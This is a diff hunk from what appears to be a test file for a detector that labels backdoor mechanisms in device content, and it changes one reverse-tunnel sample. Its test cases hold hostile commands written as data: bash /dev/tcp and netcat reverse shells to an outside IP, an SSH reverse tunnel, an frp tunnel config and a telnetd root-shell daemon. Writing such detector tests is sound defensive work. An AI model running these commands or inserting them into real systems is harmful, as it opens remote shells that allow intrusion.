@@ -58,7 +58,7 @@ def mechanisms(content: bytes, leaf_format: str = "shell"):
         (b"bash -i >& /dev/tcp/47.1.2.3/4444 0>&1", "reverse-shell:47.1.2.3", "47.1.2.3"),
         (b"nc 47.1.2.3 4444 -e /bin/sh", "reverse-shell:47.1.2.3", "47.1.2.3"),
         (b"ssh -N -R 2222:localhost:22 root@s.tuyacn.com\n", "reverse-tunnel:s.tuyacn.com", "s.tuyacn.com"),
-        (b"server_addr = frp.tuyacn.com\n", "reverse-tunnel:frp.tuyacn.com", "frp.tuyacn.com"),
+        (b"[common]\nserver_addr = f.x.cn\nserver_port = 7000\n", "reverse-tunnel:f.x.cn", "f.x.cn"),
         (b"/usr/sbin/telnetd -l /bin/sh &\n", "shell-daemon:telnetd -l /bin/sh", ""),
         (b"telnetd\n", "shell-daemon:telnetd", ""),
         (b"\x00telnetd&\x00", "shell-daemon:telnetd", ""),
